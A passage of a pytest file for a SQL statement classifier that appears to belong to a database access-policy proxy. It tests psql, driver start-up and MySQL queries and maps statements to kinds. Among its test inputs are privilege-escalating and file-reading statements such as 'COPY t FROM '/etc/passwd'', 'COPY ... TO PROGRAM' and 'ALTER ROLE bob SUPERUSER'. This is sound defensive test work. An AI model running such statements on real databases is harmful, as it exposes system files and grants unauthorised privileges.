"""The SQL classifier: kinds, functions, writes and opacity, read the way the server reads.

Real client traffic (psql's catalog queries, asyncpg's and psycopg's introspection, JDBC's
start-up) must classify cleanly; the adversarial inputs are in test_rules.py's evasion suite,
which checks the decisions built on top of this.
"""

from __future__ import annotations

import time

import asyncpg.introspection
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from central.policy.sql import (
    RISKY_FUNCTIONS,
    SqlDialect,
    StatementInfo,
    cache_clear,
    cache_info,
    classify,
)


def one(
    sql: str, dialect: SqlDialect = "postgres", prepared: dict[str, str] | None = None
) -> StatementInfo:
    """The single statement of `sql`."""
    result = classify(sql, dialect, prepared)
    assert len(result.statements) == 1, result
    return result.statements[0]


# Captured from psql 15 against PostgreSQL 15 with `psql -E`: the queries behind the
# meta-commands, exactly as psql sends them (the table oid in `\d+` is a literal).
PSQL_QUERIES: list[tuple[str, str]] = [
    (
        "\\d",
        r"""
SELECT n.nspname as "Schema",
  c.relname as "Name",
  CASE c.relkind WHEN 'r' THEN 'table' WHEN 'v' THEN 'view' WHEN 'm' THEN 'materialized view' WHEN 'i' THEN 'index' WHEN 'S' THEN 'sequence' WHEN 't' THEN 'TOAST table' WHEN 'f' THEN 'foreign table' WHEN 'p' THEN 'partitioned table' WHEN 'I' THEN 'partitioned index' END as "Type",
  pg_catalog.pg_get_userbyid(c.relowner) as "Owner"
FROM pg_catalog.pg_class c
     LEFT JOIN pg_catalog.pg_namespace n ON n.oid = c.relnamespace
     LEFT JOIN pg_catalog.pg_am am ON am.oid = c.relam
WHERE c.relkind IN ('r','p','v','m','S','f','')
      AND n.nspname <> 'pg_catalog'
      AND n.nspname !~ '^pg_toast'
      AND n.nspname <> 'information_schema'
  AND pg_catalog.pg_table_is_visible(c.oid)
ORDER BY 1,2;
""",  # noqa: E501
    ),
    (
        "\\dt",
        r"""
SELECT n.nspname as "Schema",
  c.relname as "Name",
  CASE c.relkind WHEN 'r' THEN 'table' WHEN 'v' THEN 'view' WHEN 'm' THEN 'materialized view' WHEN 'i' THEN 'index' WHEN 'S' THEN 'sequence' WHEN 't' THEN 'TOAST table' WHEN 'f' THEN 'foreign table' WHEN 'p' THEN 'partitioned table' WHEN 'I' THEN 'partitioned index' END as "Type",
  pg_catalog.pg_get_userbyid(c.relowner) as "Owner"
FROM pg_catalog.pg_class c
     LEFT JOIN pg_catalog.pg_namespace n ON n.oid = c.relnamespace
     LEFT JOIN pg_catalog.pg_am am ON am.oid = c.relam
WHERE c.relkind IN ('r','p','')
      AND n.nspname <> 'pg_catalog'
      AND n.nspname !~ '^pg_toast'
      AND n.nspname <> 'information_schema'
  AND pg_catalog.pg_table_is_visible(c.oid)
ORDER BY 1,2;
""",  # noqa: E501
    ),
    (
        "\\dv",
        r"""
SELECT n.nspname as "Schema",
  c.relname as "Name",
  CASE c.relkind WHEN 'r' THEN 'table' WHEN 'v' THEN 'view' WHEN 'm' THEN 'materialized view' WHEN 'i' THEN 'index' WHEN 'S' THEN 'sequence' WHEN 't' THEN 'TOAST table' WHEN 'f' THEN 'foreign table' WHEN 'p' THEN 'partitioned table' WHEN 'I' THEN 'partitioned index' END as "Type",
  pg_catalog.pg_get_userbyid(c.relowner) as "Owner"
FROM pg_catalog.pg_class c
     LEFT JOIN pg_catalog.pg_namespace n ON n.oid = c.relnamespace
WHERE c.relkind IN ('v','')
      AND n.nspname <> 'pg_catalog'
      AND n.nspname !~ '^pg_toast'
      AND n.nspname <> 'information_schema'
  AND pg_catalog.pg_table_is_visible(c.oid)
ORDER BY 1,2;
""",  # noqa: E501
    ),
    (
        "\\di",
        r"""
SELECT n.nspname as "Schema",
  c.relname as "Name",
  CASE c.relkind WHEN 'r' THEN 'table' WHEN 'v' THEN 'view' WHEN 'm' THEN 'materialized view' WHEN 'i' THEN 'index' WHEN 'S' THEN 'sequence' WHEN 't' THEN 'TOAST table' WHEN 'f' THEN 'foreign table' WHEN 'p' THEN 'partitioned table' WHEN 'I' THEN 'partitioned index' END as "Type",
  pg_catalog.pg_get_userbyid(c.relowner) as "Owner",
  c2.relname as "Table"
FROM pg_catalog.pg_class c
     LEFT JOIN pg_catalog.pg_namespace n ON n.oid = c.relnamespace
     LEFT JOIN pg_catalog.pg_am am ON am.oid = c.relam
     LEFT JOIN pg_catalog.pg_index i ON i.indexrelid = c.oid
     LEFT JOIN pg_catalog.pg_class c2 ON i.indrelid = c2.oid
WHERE c.relkind IN ('i','I','')
      AND n.nspname <> 'pg_catalog'
      AND n.nspname !~ '^pg_toast'
      AND n.nspname <> 'information_schema'
  AND pg_catalog.pg_table_is_visible(c.oid)
ORDER BY 1,2;
""",  # noqa: E501
    ),
    (
        "\\dn",
        r"""
SELECT n.nspname AS "Name",
  pg_catalog.pg_get_userbyid(n.nspowner) AS "Owner"
FROM pg_catalog.pg_namespace n
WHERE n.nspname !~ '^pg_' AND n.nspname <> 'information_schema'
ORDER BY 1;
""",
    ),
    (
        "\\df",
        r"""
SELECT n.nspname as "Schema",
  p.proname as "Name",
  pg_catalog.pg_get_function_result(p.oid) as "Result data type",
  pg_catalog.pg_get_function_arguments(p.oid) as "Argument data types",
 CASE p.prokind
  WHEN 'a' THEN 'agg'
  WHEN 'w' THEN 'window'
  WHEN 'p' THEN 'proc'
  ELSE 'func'
 END as "Type"
FROM pg_catalog.pg_proc p
     LEFT JOIN pg_catalog.pg_namespace n ON n.oid = p.pronamespace
WHERE pg_catalog.pg_function_is_visible(p.oid)
      AND n.nspname <> 'pg_catalog'
      AND n.nspname <> 'information_schema'
ORDER BY 1, 2, 4;
""",
    ),
    (
        "\\dx",
        r"""
SELECT e.extname AS "Name", e.extversion AS "Version", n.nspname AS "Schema", c.description AS "Description"
FROM pg_catalog.pg_extension e LEFT JOIN pg_catalog.pg_namespace n ON n.oid = e.extnamespace LEFT JOIN pg_catalog.pg_description c ON c.objoid = e.oid AND c.classoid = 'pg_catalog.pg_extension'::pg_catalog.regclass
ORDER BY 1;
""",  # noqa: E501
    ),
    (
        "\\du",
        r"""
SELECT r.rolname, r.rolsuper, r.rolinherit,
  r.rolcreaterole, r.rolcreatedb, r.rolcanlogin,
  r.rolconnlimit, r.rolvaliduntil,
  ARRAY(SELECT b.rolname
        FROM pg_catalog.pg_auth_members m
        JOIN pg_catalog.pg_roles b ON (m.roleid = b.oid)
        WHERE m.member = r.oid) as memberof
, r.rolreplication
, r.rolbypassrls
FROM pg_catalog.pg_roles r
WHERE r.rolname !~ '^pg_'
ORDER BY 1;
""",
    ),
    (
        "\\l",
        r"""
SELECT d.datname as "Name",
       pg_catalog.pg_get_userbyid(d.datdba) as "Owner",
       pg_catalog.pg_encoding_to_char(d.encoding) as "Encoding",
       d.datcollate as "Collate",
       d.datctype as "Ctype",
       d.daticulocale as "ICU Locale",
       CASE d.datlocprovider WHEN 'c' THEN 'libc' WHEN 'i' THEN 'icu' END AS "Locale Provider",
       pg_catalog.array_to_string(d.datacl, E'\n') AS "Access privileges"
FROM pg_catalog.pg_database d
ORDER BY 1;
""",
    ),
    (
        "\\l+",
        r"""
SELECT d.datname as "Name",
       pg_catalog.pg_get_userbyid(d.datdba) as "Owner",
       pg_catalog.pg_encoding_to_char(d.encoding) as "Encoding",
       d.datcollate as "Collate",
       d.datctype as "Ctype",
       d.daticulocale as "ICU Locale",
       CASE d.datlocprovider WHEN 'c' THEN 'libc' WHEN 'i' THEN 'icu' END AS "Locale Provider",
       pg_catalog.array_to_string(d.datacl, E'\n') AS "Access privileges",
       CASE WHEN pg_catalog.has_database_privilege(d.datname, 'CONNECT')
          OR pg_catalog.pg_has_role('pg_read_all_stats', 'USAGE')
            THEN pg_catalog.pg_size_pretty(pg_catalog.pg_database_size(d.datname))
            ELSE 'No Access'
       END as "Size",
       t.spcname as "Tablespace",
       pg_catalog.shobj_description(d.oid, 'pg_database') as "Description"
FROM pg_catalog.pg_database d
  JOIN pg_catalog.pg_tablespace t on d.dattablespace = t.oid
ORDER BY 1;
""",
    ),
    (
        "\\d+ wg_t #1",
        r"""
SELECT c.oid,
  n.nspname,
  c.relname
FROM pg_catalog.pg_class c
     LEFT JOIN pg_catalog.pg_namespace n ON n.oid = c.relnamespace
WHERE c.relname OPERATOR(pg_catalog.~) '^(wg_t)$' COLLATE pg_catalog.default
  AND pg_catalog.pg_table_is_visible(c.oid)
ORDER BY 2, 3;
""",
    ),
    (
        "\\d+ wg_t #2",
        r"""
SELECT c.relchecks, c.relkind, c.relhasindex, c.relhasrules, c.relhastriggers, c.relrowsecurity, c.relforcerowsecurity, false AS relhasoids, c.relispartition, pg_catalog.array_to_string(c.reloptions || array(select 'toast.' || x from pg_catalog.unnest(tc.reloptions) x), ', ')
, c.reltablespace, CASE WHEN c.reloftype = 0 THEN '' ELSE c.reloftype::pg_catalog.regtype::pg_catalog.text END, c.relpersistence, c.relreplident, am.amname
FROM pg_catalog.pg_class c
 LEFT JOIN pg_catalog.pg_class tc ON (c.reltoastrelid = tc.oid)
LEFT JOIN pg_catalog.pg_am am ON (c.relam = am.oid)
WHERE c.oid = '26365';
""",  # noqa: E501
    ),
    (
        "\\d+ wg_t #3",
        r"""
SELECT a.attname,
  pg_catalog.format_type(a.atttypid, a.atttypmod),
  (SELECT pg_catalog.pg_get_expr(d.adbin, d.adrelid, true)
   FROM pg_catalog.pg_attrdef d
   WHERE d.adrelid = a.attrelid AND d.adnum = a.attnum AND a.atthasdef),
  a.attnotnull,
  (SELECT c.collname FROM pg_catalog.pg_collation c, pg_catalog.pg_type t
   WHERE c.oid = a.attcollation AND t.oid = a.atttypid AND a.attcollation <> t.typcollation) AS attcollation,
  a.attidentity,
  a.attgenerated,
  a.attstorage,
  a.attcompression AS attcompression,
  CASE WHEN a.attstattarget=-1 THEN NULL ELSE a.attstattarget END AS attstattarget,
  pg_catalog.col_description(a.attrelid, a.attnum)
FROM pg_catalog.pg_attribute a
WHERE a.attrelid = '26365' AND a.attnum > 0 AND NOT a.attisdropped
ORDER BY a.attnum;
""",  # noqa: E501
    ),
    (
        "\\d+ wg_t #4",
        r"""
SELECT c2.relname, i.indisprimary, i.indisunique, i.indisclustered, i.indisvalid, pg_catalog.pg_get_indexdef(i.indexrelid, 0, true),
  pg_catalog.pg_get_constraintdef(con.oid, true), contype, condeferrable, condeferred, i.indisreplident, c2.reltablespace
FROM pg_catalog.pg_class c, pg_catalog.pg_class c2, pg_catalog.pg_index i
  LEFT JOIN pg_catalog.pg_constraint con ON (conrelid = i.indrelid AND conindid = i.indexrelid AND contype IN ('p','u','x'))
WHERE c.oid = '26365' AND c.oid = i.indrelid AND i.indexrelid = c2.oid
ORDER BY i.indisprimary DESC, c2.relname;
""",  # noqa: E501
    ),
    (
        "\\d+ wg_t #5",
        r"""
SELECT r.conname, pg_catalog.pg_get_constraintdef(r.oid, true)
FROM pg_catalog.pg_constraint r
WHERE r.conrelid = '26365' AND r.contype = 'c'
ORDER BY 1;
""",
    ),
    (
        "\\d+ wg_t #6",
        r"""
SELECT true as sametable, conname,
  pg_catalog.pg_get_constraintdef(r.oid, true) as condef,
  conrelid::pg_catalog.regclass AS ontable
FROM pg_catalog.pg_constraint r
WHERE r.conrelid = '26365' AND r.contype = 'f'
     AND conparentid = 0
ORDER BY conname
""",
    ),
    (
        "\\d+ wg_t #7",
        r"""
SELECT conname, conrelid::pg_catalog.regclass AS ontable,
       pg_catalog.pg_get_constraintdef(oid, true) AS condef
  FROM pg_catalog.pg_constraint c
 WHERE confrelid IN (SELECT pg_catalog.pg_partition_ancestors('26365')
                     UNION ALL VALUES ('26365'::pg_catalog.regclass))
       AND contype = 'f' AND conparentid = 0
ORDER BY conname;
""",
    ),
    (
        "\\d+ wg_t #8",
        r"""
SELECT pol.polname, pol.polpermissive,
  CASE WHEN pol.polroles = '{0}' THEN NULL ELSE pg_catalog.array_to_string(array(select rolname from pg_catalog.pg_roles where oid = any (pol.polroles) order by 1),',') END,
  pg_catalog.pg_get_expr(pol.polqual, pol.polrelid),
  pg_catalog.pg_get_expr(pol.polwithcheck, pol.polrelid),
  CASE pol.polcmd
    WHEN 'r' THEN 'SELECT'
    WHEN 'a' THEN 'INSERT'
    WHEN 'w' THEN 'UPDATE'
    WHEN 'd' THEN 'DELETE'
    END AS cmd
FROM pg_catalog.pg_policy pol
WHERE pol.polrelid = '26365' ORDER BY 1;
""",  # noqa: E501
    ),
    (
        "\\d+ wg_t #9",
        r"""
SELECT oid, stxrelid::pg_catalog.regclass, stxnamespace::pg_catalog.regnamespace::pg_catalog.text AS nsp, stxname,
pg_catalog.pg_get_statisticsobjdef_columns(oid) AS columns,
  'd' = any(stxkind) AS ndist_enabled,
  'f' = any(stxkind) AS deps_enabled,
  'm' = any(stxkind) AS mcv_enabled,
stxstattarget
FROM pg_catalog.pg_statistic_ext
WHERE stxrelid = '26365'
ORDER BY nsp, stxname;
""",  # noqa: E501
    ),
    (
        "\\d+ wg_t #10",
        r"""
SELECT pubname
     , NULL
     , NULL
FROM pg_catalog.pg_publication p
     JOIN pg_catalog.pg_publication_namespace pn ON p.oid = pn.pnpubid
     JOIN pg_catalog.pg_class pc ON pc.relnamespace = pn.pnnspid
WHERE pc.oid ='26365' and pg_catalog.pg_relation_is_publishable('26365')
UNION
SELECT pubname
     , pg_get_expr(pr.prqual, c.oid)
     , (CASE WHEN pr.prattrs IS NOT NULL THEN
         (SELECT string_agg(attname, ', ')
           FROM pg_catalog.generate_series(0, pg_catalog.array_upper(pr.prattrs::pg_catalog.int2[], 1)) s,
                pg_catalog.pg_attribute
          WHERE attrelid = pr.prrelid AND attnum = prattrs[s])
        ELSE NULL END) FROM pg_catalog.pg_publication p
     JOIN pg_catalog.pg_publication_rel pr ON p.oid = pr.prpubid
     JOIN pg_catalog.pg_class c ON c.oid = pr.prrelid
WHERE pr.prrelid = '26365'
UNION
SELECT pubname
     , NULL
     , NULL
FROM pg_catalog.pg_publication p
WHERE p.puballtables AND pg_catalog.pg_relation_is_publishable('26365')
ORDER BY 1;
""",  # noqa: E501
    ),
    (
        "\\d+ wg_t #11",
        r"""
SELECT t.tgname, pg_catalog.pg_get_triggerdef(t.oid, true), t.tgenabled, t.tgisinternal,
  CASE WHEN t.tgparentid != 0 THEN
    (SELECT u.tgrelid::pg_catalog.regclass
     FROM pg_catalog.pg_trigger AS u,
          pg_catalog.pg_partition_ancestors(t.tgrelid) WITH ORDINALITY AS a(relid, depth)
     WHERE u.tgname = t.tgname AND u.tgrelid = a.relid
           AND u.tgparentid = 0
     ORDER BY a.depth LIMIT 1)
  END AS parent
FROM pg_catalog.pg_trigger t
WHERE t.tgrelid = '26365' AND (NOT t.tgisinternal OR (t.tgisinternal AND t.tgenabled = 'D'))
ORDER BY 1;
""",
    ),
    (
        "\\d+ wg_t #12",
        r"""
SELECT c.oid::pg_catalog.regclass
FROM pg_catalog.pg_class c, pg_catalog.pg_inherits i
WHERE c.oid = i.inhparent AND i.inhrelid = '26365'
  AND c.relkind != 'p' AND c.relkind != 'I'
ORDER BY inhseqno;
""",
    ),
    (
        "\\d+ wg_t #13",
        r"""
SELECT c.oid::pg_catalog.regclass, c.relkind, inhdetachpending, pg_catalog.pg_get_expr(c.relpartbound, c.oid)
FROM pg_catalog.pg_class c, pg_catalog.pg_inherits i
WHERE c.oid = i.inhrelid AND i.inhparent = '26365'
ORDER BY pg_catalog.pg_get_expr(c.relpartbound, c.oid) = 'DEFAULT', c.oid::pg_catalog.regclass::pg_catalog.text;
""",  # noqa: E501
    ),
]


PSYCOPG_TYPEINFO = """\
SELECT
    typname AS name, oid, typarray AS array_oid,
    oid::regtype::text AS regtype, typdelim AS delimiter
FROM pg_type t
WHERE t.oid = to_regtype($1)
ORDER BY t.oid
"""

PSYCOPG_COMPOSITE = """\
SELECT
    t.typname AS name, t.oid AS oid, t.typarray AS array_oid,
    t.oid::regtype::text AS regtype,
    coalesce(a.fnames, '{}') AS field_names,
    coalesce(a.ftypes, '{}') AS field_types
FROM pg_type t
LEFT JOIN (
    SELECT
        attrelid,
        array_agg(attname) AS fnames,
        array_agg(atttypid) AS ftypes
    FROM (
        SELECT a.attrelid, a.attname, a.atttypid
        FROM pg_attribute a
        JOIN pg_type t ON t.typrelid = a.attrelid
        WHERE t.oid = to_regtype($1)
        AND a.attnum > 0
        AND NOT a.attisdropped
        ORDER BY a.attnum
    ) x
    GROUP BY attrelid
) a ON a.attrelid = t.typrelid
WHERE t.oid = to_regtype($1)
"""

PSYCOPG_ENUM = """\
SELECT name, oid, array_oid, array_agg(label) AS labels
FROM (
    SELECT
        t.typname AS name, t.oid AS oid, t.typarray AS array_oid,
        t.oid::regtype::text AS regtype, e.enumlabel AS label
    FROM pg_type t
    LEFT JOIN  pg_enum e
    ON e.enumtypid = t.oid
    WHERE t.oid = to_regtype($1)
    ORDER BY e.enumsortorder
) x
GROUP BY name, oid, array_oid
"""

# What clients send on their own, without the user typing it.
CLIENT_STARTUP: list[tuple[SqlDialect, str, str]] = [
    # pgjdbc
    ("postgres", "SET extra_float_digits = 3", "set"),
    ("postgres", "SET application_name = 'PostgreSQL JDBC Driver'", "set"),
    ("postgres", "SET SESSION CHARACTERISTICS AS TRANSACTION READ WRITE", "set"),
    (
        "postgres",
        "SELECT typinput='pg_catalog.array_in'::regproc as is_array, typtype, typname, "
        "pg_type.oid FROM pg_catalog.pg_type LEFT JOIN (select ns.oid as nspoid, ns.nspname, r.r "
        "from pg_namespace as ns join ( select s.r, (current_schemas(false))[s.r] as nspname "
        "from generate_series(1, array_upper(current_schemas(false), 1)) as s(r) ) as r "
        "using ( nspname ) ) as sp ON sp.nspoid = typnamespace WHERE pg_type.oid = $1 "
        "ORDER BY sp.r, pg_type.oid DESC",
        "select",
    ),
    # psycopg / asyncpg
    ("postgres", PSYCOPG_TYPEINFO, "select"),
    ("postgres", PSYCOPG_COMPOSITE, "select"),
    ("postgres", PSYCOPG_ENUM, "select"),
    ("postgres", asyncpg.introspection.INTRO_LOOKUP_TYPES, "select"),
    ("postgres", asyncpg.introspection.INTRO_LOOKUP_TYPES_13, "select"),
    ("postgres", asyncpg.introspection.TYPE_BY_NAME, "select"),
    ("postgres", "SHOW transaction_isolation;", "show"),
    ("postgres", "BEGIN", "begin"),
    ("postgres", "BEGIN ISOLATION LEVEL SERIALIZABLE, READ ONLY", "begin"),
    ("postgres", "START TRANSACTION ISOLATION LEVEL REPEATABLE READ", "begin"),
    ("postgres", "SAVEPOINT _asyncpg_1", "savepoint"),
    ("postgres", "RELEASE SAVEPOINT _asyncpg_1", "release"),
    ("postgres", "ROLLBACK TO SAVEPOINT _asyncpg_1", "rollback"),
    ("postgres", "COMMIT", "commit"),
    ("postgres", "END", "commit"),
    ("postgres", "ROLLBACK", "rollback"),
    ("postgres", "ABORT", "rollback"),
    ("postgres", "DISCARD ALL", "discard"),
    ("postgres", "DEALLOCATE ALL", "deallocate"),
    ("postgres", "DEALLOCATE PREPARE _pg3_0", "deallocate"),
    ("postgres", 'LISTEN "events"', "listen"),
    ("postgres", "UNLISTEN *", "unlisten"),
    ("postgres", "CLOSE ALL", "close"),
    ("postgres", "RESET ALL", "reset"),
    ("postgres", 'SET search_path TO "$user", public', "set"),
    ("postgres", "SET TIME ZONE 'UTC'", "set"),
    ("postgres", "SET DateStyle = 'ISO, MDY'", "set"),
    ("postgres", "set client_encoding to 'UTF8'", "set"),
    ("postgres", "SET standard_conforming_strings = on", "set"),
    ("postgres", "SET statement_timeout = 0", "set"),
    ("postgres", "SET LOCAL lock_timeout = '5s'", "set"),
    ("postgres", "SELECT current_schema(), session_user", "select"),
    ("postgres", "SELECT version()", "select"),
    ("postgres", "FETCH FORWARD 100 FROM c1", "fetch"),
    # MySQL: the mysql client, Connector/J, PyMySQL
    ("mysql", "select @@version_comment limit 1", "select"),
    ("mysql", "SELECT DATABASE()", "select"),
    (
        "mysql",
        "/* mysql-connector-j-8.4.0 (Revision: x) */SELECT  @@session.auto_increment_increment "
        "AS auto_increment_increment, @@character_set_client AS character_set_client, "
        "@@character_set_connection AS character_set_connection, @@license AS license, "
        "@@sql_mode AS sql_mode, @@system_time_zone AS system_time_zone, @@time_zone AS time_zone, "
        "@@wait_timeout AS wait_timeout",
        "select",
    ),
    ("mysql", "SET NAMES utf8mb4", "set"),
    ("mysql", "SET NAMES utf8mb4 COLLATE utf8mb4_0900_ai_ci", "set"),
    ("mysql", "SET character_set_results = NULL", "set"),
    ("mysql", "SET autocommit=1", "set"),
    ("mysql", "SET AUTOCOMMIT = 0", "set"),
    ("mysql", "SET SESSION TRANSACTION ISOLATION LEVEL READ COMMITTED", "set"),
    ("mysql", "SET sql_mode = CONCAT(@@sql_mode, ',STRICT_TRANS_TABLES')", "set"),
    ("mysql", "SELECT @@session.transaction_read_only", "select"),
    ("mysql", "SHOW DATABASES", "show"),
    ("mysql", "SHOW FULL TABLES FROM `shop` LIKE 'ord%'", "show"),
    ("mysql", "SHOW VARIABLES LIKE 'lower_case_table_names'", "show"),
    ("mysql", "USE shop", "use"),
    ("mysql", "START TRANSACTION", "begin"),
    ("mysql", "COMMIT", "commit"),
]


@pytest.mark.parametrize(("label", "sql"), PSQL_QUERIES, ids=[q[0] for q in PSQL_QUERIES])
def test_psql_catalog_queries_are_plain_selects(label: str, sql: str) -> None:
    result = classify(sql, "postgres")
    assert result.error is None
    info = result.statements[0]
    assert (info.kind, info.opaque, info.writes, info.inner_kinds) == (
        "select",
        False,
        False,
        frozenset(),
    )
    assert not info.functions & RISKY_FUNCTIONS


@pytest.mark.parametrize(("dialect", "sql", "kind"), CLIENT_STARTUP)
def test_what_clients_send_on_their_own_classifies_cleanly(
    dialect: SqlDialect, sql: str, kind: str
) -> None:
    result = classify(sql, dialect)
    assert result.error is None
    [info] = result.statements
    assert (info.kind, info.opaque, info.opaque_reason) == (kind, False, None)
    assert not info.writes
    assert not info.functions & RISKY_FUNCTIONS


def test_asyncpg_pool_reset_query() -> None:
    # asyncpg sends this on every release of a pooled connection.
    result = classify(
        "SELECT pg_advisory_unlock_all();\nCLOSE ALL;\nUNLISTEN *;\nRESET ALL;", "postgres"
    )
    assert [s.kind for s in result.statements] == ["select", "close", "unlisten", "reset"]
    assert not any(s.opaque for s in result.statements)
    assert result.statements[0].functions == {"pg_advisory_unlock_all"}


# --- kinds ------------------------------------------------------------------------------------

KINDS: list[tuple[SqlDialect, str, str]] = [
    ("postgres", "SELECT 1", "select"),
    ("postgres", "(SELECT 1) UNION (SELECT 2)", "select"),
    ("postgres", "TABLE t", "select"),
    ("postgres", "VALUES (1), (2)", "values"),
    ("postgres", "INSERT INTO t VALUES (1) ON CONFLICT DO NOTHING", "insert"),
    ("postgres", "UPDATE t SET a = 1 FROM u WHERE t.id = u.id RETURNING *", "update"),
    ("postgres", "DELETE FROM t WHERE id = 1", "delete"),
    ("postgres", "WITH d AS (SELECT 1) DELETE FROM t USING d", "delete"),
    ("postgres", "MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE", "merge"),
    ("postgres", "DROP TABLE t", "drop table"),
    ("postgres", "DROP TABLE IF EXISTS a, b CASCADE", "drop table"),
    ("postgres", "drop materialized view m", "drop materialized view"),
    ("postgres", "DROP FOREIGN DATA WRAPPER w", "drop foreign data wrapper"),
    ("postgres", "DROP TEXT SEARCH CONFIGURATION c", "drop text search configuration"),
    ("postgres", "DROP SCHEMA s CASCADE", "drop schema"),
    ("postgres", "DROP DATABASE d", "drop database"),
    ("postgres", "DROP OWNED BY bob", "drop owned"),
    ("postgres", "TRUNCATE t", "truncate"),
    ("postgres", "TRUNCATE TABLE ONLY t RESTART IDENTITY", "truncate"),
    ("postgres", "ALTER TABLE t ADD COLUMN c int", "alter table"),
    ("postgres", "ALTER ROLE bob SUPERUSER", "alter role"),
    ("postgres", "ALTER USER bob WITH PASSWORD 'x'", "alter role"),  # an alias in PostgreSQL
    ("postgres", "CREATE GROUP g", "create role"),
    ("postgres", "CREATE USER MAPPING FOR bob SERVER s", "create user mapping"),
    ("postgres", "ALTER SYSTEM SET wal_level = logical", "alter system"),
    (
        "postgres",
        "ALTER DEFAULT PRIVILEGES GRANT SELECT ON TABLES TO bob",
        "alter default privileges",
    ),
    ("postgres", "CREATE TABLE t (a int)", "create table"),
    ("postgres", "CREATE TEMP TABLE t (a int)", "create table"),
    ("postgres", "CREATE UNLOGGED TABLE IF NOT EXISTS t (a int)", "create table"),
    ("postgres", "CREATE UNIQUE INDEX CONCURRENTLY i ON t (a)", "create index"),
    ("postgres", "CREATE OR REPLACE VIEW v AS SELECT 1", "create view"),
    ("postgres", "CREATE MATERIALIZED VIEW m AS SELECT 1", "create materialized view"),
    ("postgres", "CREATE ROLE x LOGIN", "create role"),
    ("postgres", "CREATE EXTENSION dblink", "create extension"),
    (
        "postgres",
        "CREATE OR REPLACE FUNCTION f() RETURNS int LANGUAGE sql AS 'SELECT 1'",
        "create function",
    ),
    ("postgres", "CREATE PROCEDURE p() LANGUAGE sql AS $$ DELETE FROM t $$", "create procedure"),
    ("postgres", "GRANT SELECT ON t TO bob", "grant"),
    ("postgres", "GRANT pg_read_server_files TO bob", "grant"),
    ("postgres", "REVOKE ALL ON t FROM bob", "revoke"),
    ("postgres", "COMMENT ON TABLE t IS 'x'", "comment"),
    ("postgres", "ANALYZE t", "analyze"),
    ("postgres", "VACUUM FULL t", "vacuum"),
    ("postgres", "LOCK TABLE t IN ACCESS EXCLUSIVE MODE", "lock"),
    ("postgres", "CHECKPOINT", "checkpoint"),
    ("postgres", "REFRESH MATERIALIZED VIEW m", "refresh materialized view"),
    ("postgres", "SECURITY LABEL ON TABLE t IS 'x'", "security label"),
    ("postgres", "COPY t FROM STDIN", "copy"),
    ("postgres", "copy t (a, b) to stdout with (format csv, header)", "copy"),
    ("postgres", "COPY t TO PROGRAM 'gzip > /tmp/t.gz'", "copy program"),
    ("postgres", "COPY t FROM '/etc/passwd'", "copy file"),
    ("postgres", "DO $$ BEGIN END $$", "do"),
    ("postgres", "CALL p(1)", "call"),
    ("postgres", "LOAD 'auto_explain'", "load"),
    ("postgres", "EXPLAIN SELECT 1", "explain"),
    ("postgres", "PREPARE p AS SELECT 1", "prepare"),
    ("postgres", "PREPARE TRANSACTION 'x'", "prepare transaction"),
    ("postgres", "COMMIT PREPARED 'x'", "commit prepared"),
    ("postgres", "DECLARE c CURSOR WITH HOLD FOR SELECT 1", "declare"),
    ("postgres", "NOTIFY ch, 'payload'", "notify"),
    ("postgres", "SET ROLE admin", "set role"),
    ("postgres", "frobnicate the database", "unknown"),
    ("mysql", "DROP TABLE `t`", "drop table"),
    ("mysql", "DROP TEMPORARY TABLE IF EXISTS t", "drop table"),
    ("mysql", "CREATE DEFINER=`root`@`%` PROCEDURE p() SELECT 1", "create procedure"),
    ("mysql", "CREATE ALGORITHM=MERGE SQL SECURITY DEFINER VIEW v AS SELECT 1", "create view"),
    ("mysql", "REPLACE INTO t VALUES (1)", "replace"),
    ("mysql", "TRUNCATE TABLE t", "truncate"),
    ("mysql", "LOAD DATA LOCAL INFILE 'x.csv' INTO TABLE t", "load data"),
    ("mysql", "DESCRIBE t", "describe"),
    ("mysql", "DROP PREPARE s", "deallocate"),
    ("mysql", "ALTER USER bob IDENTIFIED BY 'x'", "alter user"),
    ("mysql", "SET GLOBAL general_log = 1", "set global"),
    ("mysql", "SET PASSWORD = 'x'", "set password"),
]


@pytest.mark.parametrize(("dialect", "sql", "kind"), KINDS)
def test_kind(dialect: SqlDialect, sql: str, kind: str) -> None:
    assert one(sql, dialect).kind == kind


def test_kinds_are_word_prefixes_then_inner_kinds() -> None:
    assert one("DROP TABLE t").kinds == ("drop table", "drop")
    assert one("DROP MATERIALIZED VIEW m").kinds == (
        "drop materialized view",
        "drop materialized",
        "drop",
    )
    info = one("WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d")
    assert info.kinds == ("select", "delete")


@pytest.mark.parametrize(
    "sql",
    [
        "SELECT 1 FROM t",
        "INSERT INTO t SELECT 1",
        "CREATE TABLE t (a int)",
        "COPY t FROM STDIN",
        "ALTER TABLE t ADD b int",
    ],
)
def test_writes(sql: str) -> None:
    assert one(sql).writes is (not sql.startswith("SELECT"))


# --- functions --------------------------------------------------------------------------------

# Every place a function can be called; {f} is replaced by a call.
CALL_SITES = [
    "SELECT {f}",
    "SELECT a, {f} AS x FROM t",
    "SELECT * FROM t WHERE a = {f}",
    "SELECT * FROM t WHERE a IN (SELECT {f})",
    "SELECT * FROM t WHERE EXISTS (SELECT 1 WHERE {f} IS NOT NULL)",
    "SELECT (SELECT {f})",
    "WITH c AS (SELECT {f}) SELECT * FROM c",
    "WITH RECURSIVE c(n) AS (SELECT 1 UNION ALL SELECT n + length({f}) FROM c) SELECT 1",
    "SELECT * FROM t ORDER BY {f}",
    "SELECT a FROM t GROUP BY a HAVING count(*) > length({f})",
    "SELECT * FROM t, LATERAL (SELECT {f}) x",
    "SELECT * FROM t JOIN u ON u.a = {f}",
    "SELECT CASE WHEN a THEN {f} END FROM t",
    "SELECT sum(a) OVER (PARTITION BY {f}) FROM t",
    "SELECT count(*) FILTER (WHERE a = {f}) FROM t",
    "SELECT ({f})[1]",
    "SELECT coalesce(NULL, upper({f}))",
    "SELECT {f}::text",
    "VALUES ({f})",
    "INSERT INTO t VALUES ({f})",
    "INSERT INTO t SELECT {f}",
    "INSERT INTO t VALUES (1) ON CONFLICT (a) DO UPDATE SET b = {f}",
    "UPDATE t SET a = {f}",
    "UPDATE t SET a = 1 RETURNING {f}",
    "DELETE FROM t WHERE a = {f}",
    "DELETE FROM t RETURNING {f}",
    "CREATE TABLE t (a text DEFAULT {f})",
    "CREATE TABLE t (a text CHECK (a <> {f}))",
    "CREATE TABLE t AS SELECT {f}",
